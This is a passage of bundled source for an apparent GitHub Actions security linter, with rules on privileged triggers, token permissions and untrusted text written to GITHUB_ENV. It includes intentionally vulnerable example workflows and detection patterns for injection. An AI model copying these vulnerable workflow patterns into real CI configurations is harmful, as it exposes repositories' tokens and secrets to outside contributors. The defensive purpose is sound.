+                for (const path of flowingContexts(e.body).concat(e.body.match(/secrets\.[A-Za-z_][\w-]*/gi) ?? [])) {
+                    const m = /^secrets\.([^.]+)/i.exec(path);
+                    if (m && m[1].toUpperCase() !== 'GITHUB_TOKEN' && !out.some((s) => s.name === m[1]))
+                        out.push({ name: m[1], at: wf.file.spanOf(node) });
+                }
+        },
+    });
+    return out;
+}
+
+;// CONCATENATED MODULE: ./src/rules/workflows/dangerous-trigger.ts
+
+
+const DANGEROUS = ['pull_request_target', 'workflow_run'];
+/* harmony default export */ const dangerous_trigger = ({
+    id: 'dangerous-trigger',
+    title: 'Privileged trigger with write access or secrets',
+    severity: 'medium',
+    area: 'workflows',
+    summary: 'A workflow triggered by `pull_request_target` or `workflow_run` has write permissions (explicit, `write-all`, or the repository ' +
+        'default because no `permissions:` is set) or uses secrets other than `GITHUB_TOKEN`.',
+    rationale: '`pull_request_target` and `workflow_run` run in the context of the base repository even for pull requests from forks: the token ' +
+        'can write and the secrets are available. Anything in the workflow that an outside contributor can influence (a PR title in a script, ' +
+        'an artifact from the triggering run, a cache, code that a later edit checks out) then runs with that power. The trigger is not a ' +
+        'vulnerability by itself, so it is reported only when the workflow holds something worth stealing, at medium severity. A workflow that ' +
+        'checks out and runs the pull request code is reported by `untrusted-checkout` instead, not twice. `issue_comment` is not reported here: ' +
+        'it is commonly used without touching pull request code.',
+    fix: 'Prefer `pull_request` (read-only token, no secrets for forks). If you need the privileged trigger, set `permissions:` to the minimum ' +
+        '(`permissions: {}` or e.g. `pull-requests: write` on the one job that comments), keep secrets out of it, never check out or run the ' +
+        'pull request\'s code, and treat every event field and downloaded artifact as untrusted data.',
+    references: [
+        'https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/',
+        'https://docs.github.com/en/actions/writing-workflows/choosing-when-your-workflow-runs/events-that-trigger-workflows#pull_request_target',
+        'https://docs.zizmor.sh/audits/#dangerous-triggers',
+    ],
+    examples: {
+        bad: [
+            {
+                path: '.github/workflows/label.yml',
+                text: 'on:\n  pull_request_target:\n    types: [opened]\njobs:\n  label:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/labeler@v5\n',
+                line: 2,
+            },
+            {
+                path: '.github/workflows/notify.yml',
+                text: 'on:\n  workflow_run:\n    workflows: [CI]\npermissions: {}\njobs:\n  notify:\n    runs-on: ubuntu-latest\n    steps:\n' +
+                    '      - run: ./notify.sh\n        env:\n          SLACK_WEBHOOK: ${{ secrets.SLACK_WEBHOOK }}\n',
+                line: 2,
+            },
+            {
+                path: '.github/workflows/triage.yml',
+                text: 'on: [pull_request_target, push]\npermissions:\n  issues: write\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo hi\n',
+                line: 1,
+            },
+        ],
+        good: [
+            {
+                path: '.github/workflows/label.yml',
+                text: 'on: pull_request_target\npermissions: {}\njobs:\n  label:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/labeler@v5\n',
+            },
+            {
+                path: '.github/workflows/ci.yml',
+                text: 'on: pull_request\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ${{ secrets.TOKEN }}\n',
+            },
+        ],
+    },
+    reads: ['workflow'],
+    check(wf, ctx) {
+        if (wf.type !== 'workflow')
+            return;
+        const triggers = wf.triggers.filter((t) => DANGEROUS.includes(t.name));
+        if (triggers.length === 0 || untrustedCheckouts(wf).length > 0)
+            return;
+        const power = writePower(wf);
+        const secrets = referencedSecrets(wf);
+        if (!power && secrets.length === 0)
+            return;
+        const holds = [
+            ...(power ? [power.what] : []),
+            ...(secrets.length > 0 ? [`secrets (${secrets.slice(0, 3).map((s) => `\`${s.name}\``).join(', ')}${secrets.length > 3 ? ', …' : ''})`] : []),
+        ].join(' and ');
+        const related = [
+            ...(power?.at ? [{ at: power.at, label: power.implicit ? 'job using the default token' : 'write permissions' }] : []),
+            ...secrets.slice(0, 3).map((s) => ({ at: s.at, label: `uses secret ${s.name}` })),
+        ];
+        for (const t of triggers)
+            ctx.report({
+                message: `\`${t.name}\` runs with the base repository's privileges on events from forks, and this workflow holds ${holds}: ` +
+                    'anything a contributor can influence here runs with them. Use `pull_request` if possible, otherwise set minimal `permissions:` and keep secrets out.',
+                at: t.span,
+                confidence: power && !power.implicit ? 'high' : secrets.length > 0 ? 'high' : 'medium',
+                related,
+            });
+    },
+});
+
+;// CONCATENATED MODULE: ./src/rules/workflows/excessive-permissions.ts
+
+/* harmony default export */ const excessive_permissions = ({
+    id: 'excessive-permissions',
+    title: 'GITHUB_TOKEN permissions broader than needed',
+    severity: 'medium',
+    area: 'workflows',
+    summary: 'A job runs with the repository\'s default token permissions (no `permissions:` on it or the workflow), `write-all` is granted, ' +
+        'a scope is granted `write` for every job at the workflow level, or `read-all` is used.',
+    rationale: 'Every job gets a `GITHUB_TOKEN`; whatever runs in the job (each action, each dependency installed by a build) can use it. Without a ' +
+        '`permissions:` block the token gets the repository default, which is read-write on many repositories and organisations, so a compromised ' +
+        'step can push code, create releases or approve pull requests. `write-all` (high) grants every scope. A `write` scope at the workflow ' +
+        'level reaches every job, including the ones that do not need it (low when the workflow has a single job). `read-all` (low) still ' +
+        'exposes every private resource to read. Reports for the missing block are placed on each job that lacks one (the place where ' +
+        'the token is used and where a job-level block would fix it). A workflow that only runs as a reusable workflow (`workflow_call`) ' +
+        'gets its permissions from its caller; there only jobs that call other workflows are reported. Composite actions have no token of their own.',
+    fix: 'Add `permissions: contents: read` (or `permissions: {}`) at the top of the workflow, and grant write scopes only on the job that ' +
+        'needs them, e.g. `permissions: contents: write` on the release job. Replace `write-all` and `read-all` with the scopes you use.',
+    references: [
+        'https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/controlling-permissions-for-github_token',
+        'https://docs.github.com/en/actions/security-for-github-actions/security-guides/automatic-token-authentication#permissions-for-the-github_token',
+        'https://github.com/ossf/scorecard/blob/main/docs/checks.md#token-permissions',
+        'https://docs.zizmor.sh/audits/#excessive-permissions',
+    ],
+    examples: {
+        bad: [
+            { path: '.github/workflows/ci.yml', text: 'on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make test\n', line: 3 },
+            { path: '.github/workflows/ci.yml', text: 'on: push\npermissions: write-all\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n', line: 2 },
+            {
+                path: '.github/workflows/release.yml',
+                text: 'on: push\npermissions:\n  contents: write\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make test\n' +
+                    '  release:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make release\n',
+                line: 3,
+            },
+            { path: '.github/workflows/ci.yml', text: 'on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    permissions: read-all\n    steps:\n      - run: make\n', line: 6 },
+        ],
+        good: [
+            {
+                path: '.github/workflows/release.yml',
+                text: 'on: push\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make test\n' +
+                    '  release:\n    runs-on: ubuntu-latest\n    permissions:\n      contents: write\n    steps:\n      - run: make release\n',
+            },
+            { path: '.github/workflows/lib.yml', text: 'on: workflow_call\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make test\n' },
+            { path: 'action.yml', text: 'name: x\nruns:\n  using: composite\n  steps:\n    - run: make\n      shell: bash\n' },
+        ],
+    },
+    reads: ['workflow'],
+    check(wf, ctx) {
+        if (wf.type !== 'workflow')
+            return;
+        const callOnly = wf.triggers.length > 0 && wf.triggers.every((t) => t.name === 'workflow_call');
+        for (const job of jobsWithDefaultToken(wf)) {
+            if (callOnly && !job.uses)
+                continue;
+            ctx.report({
+                message: `Job \`${job.id}\` has no \`permissions:\` and neither has the workflow, so its token gets the repository default (possibly read-write). ` +
+                    'Set `permissions: contents: read` at the top of the workflow and grant more only where needed.',
+                at: job.keySpan,
+                confidence: 'medium',
+            });
+        }
+        const top = wf.permissions;
+        const levels = [{ where: 'the workflow', p: top }, ...wf.jobs.map((j) => ({ where: `job \`${j.id}\``, p: j.permissions }))];
+        // A workflow-level grant that every job replaces reaches no job today, only jobs added later.
+        const overridden = wf.jobs.length > 0 && wf.jobs.every((j) => j.permissions);
+        for (const { where, p } of levels) {
+            if (p?.shorthand === 'write-all')
+                ctx.report({
+                    message: `\`permissions: write-all\` on ${where} grants every scope read-write: list only the scopes it needs.`,
+                    at: p.span,
+                    severity: p === top && overridden ? 'low' : 'high',
+                });
+            if (p?.shorthand === 'read-all')
+                ctx.report({ message: `\`permissions: read-all\` on ${where} can read every scope: list only the scopes it needs, e.g. \`contents: read\`.`, at: p.span, severity: 'low' });
+        }
+        if (top && !top.shorthand)
+            for (const [scope, v] of top.scopes) {
+                if (v.value.trim().toLowerCase() !== 'write')
+                    continue;
+                const single = wf.jobs.length <= 1 || overridden;
+                ctx.report({
+                    message: `\`${scope}: write\` at the workflow level reaches every job${single ? ' (today one job or none uses it, but new jobs inherit it)' : ''}: ` +
+                        `move it to the job that needs it and keep \`${scope}: read\` (or nothing) at the top.`,
+                    at: v.span,
+                    severity: single ? 'low' : 'medium',
+                });
+            }
+    },
+});
+
+;// CONCATENATED MODULE: ./src/analysis/env-files.ts
+const TARGET = /(?:>>?|\b(?:tee(?:\s+-a|\s+--append)?|Out-File(?:\s+-\w+)*|Add-Content(?:\s+-\w+)*|Set-Content(?:\s+-\w+)*))\s*["']?(?:\$\{?GITHUB_(ENV|PATH)\}?|\$env:GITHUB_(ENV|PATH)|%GITHUB_(ENV|PATH)%)["']?/i;
+function envFileWrites(script) {
+    const lines = script.split('\n');
+    const out = [];
+    for (let i = 0; i < lines.length; i++) {
+        const text = lines[i];
+        if (text.trim().startsWith('#'))
+            continue;
+        const m = TARGET.exec(text);
+        if (!m)
+            continue;
+        const file = `GITHUB_${(m[1] ?? m[2] ?? m[3]).toUpperCase()}`;
+        let content = text.replace(TARGET, ' ');
+        const doc = /<<-?\s*(['"]?)([A-Za-z_][\w-]*)\1/.exec(text);
+        if (doc) {
+            const body = [];
+            for (let j = i + 1; j < lines.length && lines[j].trim() !== doc[2]; j++)
+                body.push(lines[j]);
+            // A quoted tag ('EOF') keeps `$VAR` literal; expressions are still expanded by GitHub.
+            content = content.replace(doc[0], ' ') + '\n' + (doc[1] ? body.join('\n').replace(/\$(?!\{\{)/g, '') : body.join('\n'));
+        }
+        out.push({ file, line: i, content });
+    }
+    return out;
+}
+/** Variables the runner sets (or that a script cannot get from outside): writing them is not a finding. */
+const RUNNER_VARIABLE = /^(GITHUB_\w+|RUNNER_\w+|HOME|PATH|PWD|USER|CI|RANDOM|LANG|SHELL|TMPDIR|ImageOS|ImageVersion|JAVA_HOME\w*|ANDROID_\w+)$/;
+/** Names of the variables a line reads: `$X`, `${X…}`, `$env:X`, `%X%`. */
+function variablesRead(text) {
+    const out = [...text.replace(/\$\{\{[\s\S]*?\}\}/g, '').matchAll(/\$\{?#?!?([A-Za-z_][A-Za-z0-9_]*)|\$env:([A-Za-z_][A-Za-z0-9_]*)|%([A-Za-z_][A-Za-z0-9_]*)%/gi)];
+    return [...new Set(out.map((m) => m[1] ?? m[2] ?? m[3]))];
+}
+/** True when the text runs a command whose output it uses: `$(…)` or backticks. */
+function hasCommandOutput(text) {
+    return /\$\((?!\()|`[^`]+`/.test(text);
+}
+/** Shell assignments in a script, in order: `NAME=value`, `export NAME=value`, `$NAME = …` (PowerShell). */
+function assignments(script) {
+    const out = [];
+    script.split('\n').forEach((text, line) => {
+        const m = /^\s*(?:export\s+|local\s+|declare\s+(?:-\w+\s+)*|readonly\s+)?\$?([A-Za-z_][A-Za-z0-9_]*)\s?=\s?(.*)$/.exec(text);
+        if (m && !/^\s*\$?[A-Za-z_]\w*\s?==/.test(text))
+            out.push({ name: m[1], line, value: m[2] });
+        for (const r of text.matchAll(/\bread\s+(?:-\w+\s+)*([A-Za-z_]\w*)/g))
+            out.push({ name: r[1], line, value: '$(read)' });
+    });
+    return out;
+}
+
+;// CONCATENATED MODULE: ./src/analysis/contexts.ts
+/** Free text an outside contributor chooses: expanding it into a script runs their code. */
+const TEXT = [
+    ['github.event.issue.title', 'issue title'],
+    ['github.event.issue.body', 'issue body'],
+    ['github.event.pull_request.title', 'pull request title'],
+    ['github.event.pull_request.body', 'pull request body'],
+    ['github.event.pull_request.head.ref', 'pull request head branch name'],
+    ['github.event.pull_request.head.label', 'pull request head label'],
+    ['github.event.pull_request.head.repo.default_branch', 'fork default branch name'],
+    ['github.event.pull_request.head.repo.description', 'fork description'],
+    ['github.event.pull_request.head.repo.homepage', 'fork homepage'],
+    ['github.event.pull_request.labels.*.name', 'label name'],
+    ['github.event.pull_request.labels.*.description', 'label description'],
+    ['github.event.issue.labels.*.name', 'label name'],
+    ['github.event.label.name', 'label name'],
+    ['github.event.comment.body', 'comment body'],
+    ['github.event.review.body', 'review body'],
+    ['github.event.review_comment.body', 'review comment body'],
+    ['github.event.discussion.title', 'discussion title'],
+    ['github.event.discussion.body', 'discussion body'],
+    ['github.event.pages.*.page_name', 'wiki page name'],
+    ['github.event.pages.*.title', 'wiki page title'],
+    ['github.event.commits.*.message', 'commit message'],
+    ['github.event.commits.*.author.name', 'commit author name'],
+    ['github.event.commits.*.author.email', 'commit author email'],
+    ['github.event.commits.*.committer.name', 'committer name'],
+    ['github.event.commits.*.committer.email', 'committer email'],
+    ['github.event.head_commit.message', 'commit message'],
+    ['github.event.head_commit.author.name', 'commit author name'],
+    ['github.event.head_commit.author.email', 'commit author email'],
+    ['github.event.head_commit.committer.name', 'committer name'],
+    ['github.event.head_commit.committer.email', 'committer email'],
+    ['github.event.workflow_run.head_branch', 'workflow_run head branch name'],
+    ['github.event.workflow_run.head_commit.message', 'workflow_run commit message'],
+    ['github.event.workflow_run.head_commit.author.name', 'workflow_run commit author name'],
+    ['github.event.workflow_run.head_commit.author.email', 'workflow_run commit author email'],
+    ['github.event.workflow_run.display_title', 'workflow_run display title'],
+    ['github.event.workflow_run.pull_requests.*.head.ref', 'workflow_run pull request branch'],
+    ['github.event.workflow_run.head_repository.description', 'fork description'],
+    ['github.event.check_suite.head_branch', 'check suite branch name'],
+    ['github.event.check_run.check_suite.head_branch', 'check run branch name'],
+    ['github.event.merge_group.head_commit.message', 'merge group commit message'],
+    ['github.event.client_payload.*', 'repository_dispatch payload'],
+    ['github.event.inputs.*', 'workflow_dispatch input'],
+    ['github.head_ref', 'pull request head branch name'],
+    ['github.event.pull_request.head.repo.name', 'fork repository name'],
+];
+/**
+ * Attacker-influenced but narrow (logins, repository names), or text that only people with write
+ * access choose (ref and release names): reported with a lower severity.
+ */
+const STRUCTURED = [
+    ['github.event.release.name', 'release name'],
+    ['github.event.release.body', 'release notes'],
+    ['github.event.release.tag_name', 'release tag name'],
+    ['github.event.ref', 'pushed ref name'],
+    ['github.event.create.ref', 'created ref name'],
+    ['github.ref_name', 'branch or tag name'],
+    ['github.ref', 'ref name'],
+    ['github.actor', 'actor login'],
+    ['github.triggering_actor', 'triggering actor login'],
+    ['github.event.sender.login', 'sender login'],
+    ['github.event.pull_request.user.login', 'pull request author login'],
+    ['github.event.issue.user.login', 'issue author login'],
+    ['github.event.comment.user.login', 'comment author login'],
+    ['github.event.pull_request.head.repo.full_name', 'fork repository name'],
+    ['github.event.pull_request.head.repo.owner.login', 'fork owner login'],
+    ['github.event.workflow_run.head_repository.full_name', 'fork repository name'],
+];
+/** Values the workflow's own author or GitHub fixes (SHAs, numbers, run ids, secrets, workflow-defined data). */
+const SAFE = [
+    'github.sha', 'github.run_id', 'github.run_number', 'github.run_attempt', 'github.repository', 'github.repository_owner',
+    'github.repository_id', 'github.workspace', 'github.server_url', 'github.api_url', 'github.graphql_url', 'github.token',
+    'github.workflow', 'github.job', 'github.action', 'github.action_path', 'github.event_name', 'github.base_ref',
+    'github.ref_type', 'github.event.number', 'github.event.pull_request.number', 'github.event.issue.number',
+    'github.event.pull_request.head.sha', 'github.event.pull_request.base.sha', 'github.event.pull_request.base.ref',
+    'github.event.workflow_run.head_sha', 'github.event.workflow_run.id', 'github.event.repository.*', 'github.event.after',
+    'github.event.before', 'github.event.pull_request.merged', 'github.event.action', 'github.retention_days',
+    'runner.*', 'secrets.*', 'vars.*', 'job.*', 'strategy.*', 'steps.*.outcome', 'steps.*.conclusion', 'needs.*.result',
+];
+const TABLE = [
+    ...TEXT.map(([pattern, what]) => ({ pattern, risk: 'text', what })),
+    ...STRUCTURED.map(([pattern, what]) => ({ pattern, risk: 'structured', what })),
+    ...SAFE.map((pattern) => ({ pattern, risk: 'safe', what: 'fixed value' })),
+];
+function matches(pattern, path) {
+    const p = pattern.split('.');
+    const s = path.split('.');
+    if (p[p.length - 1] === '*' && s.length >= p.length) {
+        return p.slice(0, -1).every((seg, i) => seg === '*' || seg === s[i]);
+    }
+    return p.length === s.length && p.every((seg, i) => seg === '*' || seg === s[i] || s[i] === '*');
+}
+/**
+ * Classifies a normalised context path (lower-case context names, `*` for indexes).
+ * Unknown `github.event.*` paths are 'structured' (attacker-reachable, not known to be free text);
+ * other unknown contexts (`env.*`, `steps.*.outputs.*`, `inputs.*`, `matrix.*`, `needs.*.outputs.*`)
+ * return undefined: the caller resolves them from the workflow.
+ */
+function classifyContext(path) {
+    const norm = path.replace(/^([A-Za-z_]+)/, (m) => m.toLowerCase());
+    for (const entry of TABLE)
+        if (matches(entry.pattern, norm))
+            return entry;
+    // A parent object (`toJSON(github.event)`) serialises every text field below it.
+    const child = TEXT.find(([pattern]) => pattern.startsWith(`${norm}.`) || matches(pattern.split('.').slice(0, norm.split('.').length).join('.'), norm));
+    if (child && child[0] !== norm)
+        return { pattern: norm, risk: 'text', what: `object holding the ${child[1]}` };
+    if (norm.startsWith('github.event.'))
+        return { pattern: norm, risk: 'structured', what: 'event payload field' };
+    if (norm.startsWith('github.'))
+        return { pattern: norm, risk: 'safe', what: 'run metadata' };
+    return undefined;
+}
+
+;// CONCATENATED MODULE: ./src/analysis/taint.ts
+
+
+
+
+const RANK = ['critical', 'high', 'medium', 'low', 'info'];
+const CONF = ['high', 'medium', 'low'];
+const taint_lower = (order, a, b) => (order.indexOf(a) >= order.indexOf(b) ? a : b);
+/** The worst taint first. */
+function worst(taints) {
+    return [...taints].sort((a, b) => RANK.indexOf(a.severity) - RANK.indexOf(b.severity) || CONF.indexOf(a.confidence) - CONF.indexOf(b.confidence))[0];
+}
+/** A value that reaches the sink through a variable, output or input: at most high, at most medium confidence. */
+function derived(t, path, via) {
+    return { path, what: `${via}, set from ${t.what}`, severity: taint_lower(RANK, t.severity, 'high'), confidence: taint_lower(CONF, t.confidence, 'medium') };
+}
+const SAFE_SUFFIX = /(^|_)(id|ids|number|sha|count|comments|fork|merged|draft|locked|private|url|at|size|additions|deletions|changed_files|state|action|node_id|type|site_admin|mergeable|rebaseable|commits|review_comments|maintainer_can_modify)$/;
+const TEXT_SUFFIX = /(^|_)(body|title|message|name|ref|label|email|description|branch|page_name|homepage|text)$/;
+/** Taints of every expression in a piece of text (env value, output line, matrix entry). */
+function taintOfText(text, scope, depth = 0) {
+    return findExpressions(text).flatMap((e) => taintOfExpression(e.body, scope, depth));
+}
+function taintOfExpression(body, scope, depth = 0) {
+    if (depth > 6)
+        return [];
+    return flowingContexts(body).flatMap((path) => taintOfPath(path, scope, depth));
+}
+function taintOfPath(raw, scope, depth = 0) {
+    const path = raw.replace(/^([A-Za-z_]+)/, (m) => m.toLowerCase());
+    const parts = path.split('.');
+    const { wf, job, step } = scope;
+    const root = parts[0];
+    if (path.startsWith('github.event.inputs.') || root === 'inputs')
+        return inputTaint(parts[root === 'inputs' ? 1 : 3], path, wf, root === 'inputs');
+    if (root === 'env' && parts[1]) {
+        const name = parts[1];
+        const entry = (wf.type === 'action' ? [step?.env] : [step?.env, job?.env, wf.env]).map((m) => m && findKey(m, name)).find((e) => e);
+        if (!entry)
+            return [];
+        return taintOfText(entry.value, { wf, job }, depth + 1).map((t) => derived(t, path, `env variable ${name}`));
+    }
+    if (root === 'steps' && parts[2] === 'outputs' && parts[1] && parts[3]) {
+        const steps = job?.steps ?? wf.runs?.steps ?? [];
+        const src = steps.find((s) => s.id === parts[1]);
+        if (src)
+            return stepOutputTaint(src, parts[3], path, { wf, job }, depth);
+        return [{ path, what: `output ${parts[3]} of step ${parts[1]} (not defined here, so its text is unknown)`, severity: 'info', confidence: 'low' }];
+    }
+    if (root === 'needs' && parts[2] === 'outputs' && parts[1] && parts[3]) {
+        const other = wf.jobs.find((j) => j.id === parts[1]);
+        const out = other && scalarString(getNode(getNode(other.node, 'outputs', wf.doc), parts[3], wf.doc));
+        return out ? taintOfText(out, { wf, job: other }, depth + 1).map((t) => derived(t, path, `output ${parts[3]} of job ${parts[1]}`)) : [];
+    }
+    if (root === 'matrix')
+        return job ? matrixTaint(job, parts[1], path, wf, depth) : [];
+    const cls = classifyContext(path);
+    if (!cls || cls.risk === 'safe')
+        return [];
+    if (cls.risk === 'text')
+        return [{ path, what: `the ${cls.what}`, severity: 'critical', confidence: 'high' }];
+    if (cls.pattern === path && cls.what === 'event payload field') {
+        const last = parts[parts.length - 1] ?? '';
+        if (SAFE_SUFFIX.test(last))
+            return [];
+        if (TEXT_SUFFIX.test(last))
+            return [{ path, what: `the event field ${path}`, severity: 'high', confidence: 'medium' }];
+        return [{ path, what: `the event field ${path}`, severity: 'low', confidence: 'low' }];
+    }
+    return [{ path, what: `the ${cls.what}`, severity: 'low', confidence: 'medium' }];
+}
+function findKey(map, name) {
+    return map.get(name) ?? [...map].find(([k]) => k.toLowerCase() === name.toLowerCase())?.[1];
+}
+const NOT_TEXT = new Set(['boolean', 'number', 'choice', 'environment']);
+function inputTaint(name, path, wf, anyTrigger) {
+    if (!name)
+        return [];
+    if (wf.type === 'action') {
+        return [{ path, what: `the action input ${name} (text from whoever calls the action)`, severity: 'medium', confidence: 'low' }];
+    }
+    const triggers = wf.triggers.filter((t) => t.name === 'workflow_dispatch' || (anyTrigger && t.name === 'workflow_call'));
+    for (const t of triggers) {
+        const inputs = resolveNode(getNode(t.config, 'inputs', wf.doc), wf.doc);
+        if (!(0,dist/* isMap */.jh)(inputs))
+            continue;
+        const decl = inputs.items.find((p) => scalarString(p.key)?.toLowerCase() === name.toLowerCase());
+        if (!decl)
+            continue;
+        const type = scalarString(getNode(decl.value, 'type', wf.doc)) ?? 'string';
+        if (NOT_TEXT.has(type))
+            return [];
+        return [{ path, what: `the ${t.name} input ${name}`, severity: 'high', confidence: 'medium' }];
+    }
+    return [];
+}
+/** Output `name` of a step: a `run:` that writes `name=…${{ x }}…` to $GITHUB_OUTPUT, or an action given attacker text. */
+function stepOutputTaint(src, name, path, scope, depth) {
+    const via = `output ${name} of step ${src.id}`;
+    const inner = { ...scope, step: src };
+    if (src.run) {
+        const esc = name.replace(/[.*+?^${}()|[\]\\-]/g, '\\$&');
+        const writes = src.run.value.split('\n').filter((l) => new RegExp(`(^|[\\s"'])${esc}=|name=${esc}::`).test(l));
+        return writes.flatMap((l) => [...taintOfText(l, inner, depth + 1), ...shellVarTaint(l, inner, depth)]).map((t) => derived(t, path, via));
+    }
+    const given = [...src.with.values()].flatMap((v) => taintOfText(v.value, inner, depth + 1));
+    if (given.length === 0) {
+        const action = src.uses?.value.split('@')[0] ?? 'an action';
+        return [{ path, what: `${via} (written by ${action}, so its text is unknown)`, severity: 'info', confidence: 'low' }];
+    }
+    return given.map((t) => ({ ...derived(t, path, via), confidence: 'low' }));
+}
+/** `$VAR` / `${VAR}` references on a line whose env entry carries attacker text. */
+function shellVarTaint(line, scope, depth = 0) {
+    const names = [...line.matchAll(/\$\{?([A-Za-z_][A-Za-z0-9_]*)|\$env:([A-Za-z_][A-Za-z0-9_]*)|%([A-Za-z_][A-Za-z0-9_]*)%/g)].map((m) => m[1] ?? m[2] ?? m[3]);
+    return [...new Set(names)].flatMap((n) => taintOfPath(`env.${n}`, scope, depth + 1));
+}
+function matrixTaint(job, key, path, wf, depth) {
+    const matrix = resolveNode(getNode(getNode(job.node, 'strategy', wf.doc), 'matrix', wf.doc), wf.doc);
+    if (!matrix)
+        return [];
+    const texts = [];
+    const collect = (n) => {
+        const r = resolveNode(n, wf.doc);
+        const s = scalarString(r);
+        if (s !== undefined)
+            texts.push(s);
+        else if ((0,dist/* isSeq */.oP)(r))
+            r.items.forEach((i) => collect(i));
+        else if ((0,dist/* isMap */.jh)(r))
+            r.items.forEach((p) => collect(p.value));
+    };
+    if (!(0,dist/* isMap */.jh)(matrix) || key === undefined)
+        collect(matrix);
+    else {
+        for (const p of matrix.items) {
+            const k = scalarString(p.key);
+            if (k === key)
+                collect(p.value);
+            else if (k === 'include') {
+                const inc = resolveNode(p.value, wf.doc);
+                if ((0,dist/* isSeq */.oP)(inc))
+                    for (const e of inc.items)
+                        collect(getNode(e, key, wf.doc));
+                else
+                    collect(inc);
+            }
+        }
+    }
+    const via = key ? `matrix value ${key}` : 'the matrix';
+    const taints = texts.flatMap((t) => taintOfText(t, { wf, job }, depth + 1)).map((t) => derived(t, path, via));
+    return key ? taints : taints.map((t) => ({ ...t, severity: taint_lower(RANK, t.severity, 'low'), confidence: 'low' }));
+}
+
+;// CONCATENATED MODULE: ./src/rules/workflows/github-env-injection.ts
+
+
+
+/** Triggers whose jobs run with the base repository's token and secrets on an outsider's event. */
+const PRIVILEGED = new Set(['pull_request_target', 'workflow_run']);
+const OUTSIDER_TEXT = new Set([...PRIVILEGED, 'issues', 'issue_comment', 'discussion', 'discussion_comment', 'pull_request_review', 'pull_request_review_comment']);
+/** What a piece of script text puts in the file: attacker text, unknown (command output, unset variable), or nothing dynamic. */
+function assess(text, line, script, scope, depth = 0) {
+    const direct = taintOfText(text, scope).filter((t) => t.severity !== 'low' && t.severity !== 'info');
+    if (direct.length)
+        return { kind: 'tainted', what: direct[0].what, direct: true };
+    let unknown = hasCommandOutput(text) ? { kind: 'unknown', what: 'command output' } : undefined;
+    for (const name of variablesRead(text)) {
+        const set = assignments(script).filter((a) => a.name === name && a.line < line).pop();
+        let v;
+        if (set && depth < 5)
+            v = assess(set.value, set.line, script, scope, depth + 1);
+        else if (!set) {
+            const env = taintOfPath(`env.${name}`, scope, 0).filter((t) => t.severity !== 'low');
+            if (env.some((t) => t.severity !== 'info'))
+                v = { kind: 'tainted', what: `$${name} (${env[0].what})`, direct: false };
+            else if (env.length)
+                v = { kind: 'unknown', what: `$${name}` };
+            else if (!RUNNER_VARIABLE.test(name) && !hasEnv(scope, name))
+                v = { kind: 'unknown', what: `$${name}` };
+        }
+        if (v?.kind === 'tainted')
+            return { ...v, direct: false };
+        unknown ??= v;
+    }
+    return unknown;
+}
+function hasEnv(scope, name) {
+    return [scope.step?.env, scope.job?.env, scope.wf.type === 'workflow' ? scope.wf.env : undefined].some((m) => m?.has(name));
+}
+/* harmony default export */ const github_env_injection = ({
+    id: 'github-env-injection',
+    title: 'Untrusted text written to GITHUB_ENV or GITHUB_PATH',
+    severity: 'high',
+    area: 'workflows',
+    summary: 'A `run:` step writes attacker-controlled text (PR title, comment, branch name, artifact content, command output) to `$GITHUB_ENV` or `$GITHUB_PATH` in a workflow an outsider can trigger.',
+    rationale: 'Every later step of the job reads `$GITHUB_ENV` and `$GITHUB_PATH`. A value with a newline defines any variable it likes ' +
+        '(`LD_PRELOAD`, `BASH_ENV`, `NODE_OPTIONS`), and a path entry puts the attacker\'s programs first: either runs their code with the ' +
+        'job\'s token and secrets. Text that provably comes from the event is reported with high confidence; writes of command output or ' +
+        'unset variables only in `pull_request_target`/`workflow_run` workflows, with low confidence; composite actions, whose callers are ' +
+        'unknown, at medium severity and low confidence.',
+    fix: 'Do not write outside text to the environment files. Pass it to the steps that need it through `env:` or a step output, or ' +
+        'validate it first against a strict pattern (`[[ "$V" =~ ^[A-Za-z0-9._-]+$ ]]`) and write only the validated value.',
+    references: [
+        'https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-commands#setting-an-environment-variable',
+        'https://www.synacktiv.com/en/publications/github-actions-exploitation-repo-jacking-and-environment-manipulation',
+        'https://docs.zizmor.sh/audits/#github-env',
+    ],
+    examples: {
+        bad: [
+            {
+                path: '.github/workflows/label.yml',
+                text: 'on: pull_request_target\njobs:\n  label:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "TITLE=${{ github.event.pull_request.title }}" >> "$GITHUB_ENV"\n',
+                line: 6,
+            },
+            {
+                path: '.github/workflows/report.yml',
+                text: 'on: workflow_run\njobs:\n  report:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/download-artifact@v4\n      - run: |\n          echo "PR=$(cat pr/number)" >> $GITHUB_ENV\n',
+                line: 7,
+            },
+        ],
+        good: [
+            {
+                path: '.github/workflows/build.yml',
+                text: 'on: pull_request_target\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          echo "$HOME/.local/bin" >> "$GITHUB_PATH"\n          echo "SHA=${{ github.event.pull_request.head.sha }}" >> "$GITHUB_ENV"\n',
+            },
+        ],
+    },
+    reads: ['workflow'],
+    check(wf, ctx) {
+        const names = wf.triggers.map((t) => t.name);
+        const privileged = names.find((n) => PRIVILEGED.has(n));
+        const outsider = names.find((n) => OUTSIDER_TEXT.has(n));
+        for (const { job, step } of allSteps(wf)) {
+            const range = step.run?.node?.range;
+            if (!range)
+                continue;
+            const raw = wf.text.slice(range[0], range[1]);
+            let best;
+            for (const w of envFileWrites(raw)) {
+                const v = assess(w.content, w.line, raw, { wf, job, step });
+                if (!v)
+                    continue;
+                let r;
+                if (wf.type === 'action')
+                    r = { severity: 'medium', confidence: 'low', rank: v.kind === 'tainted' ? 2 : 1 };
+                else if (v.kind === 'tainted' && outsider)
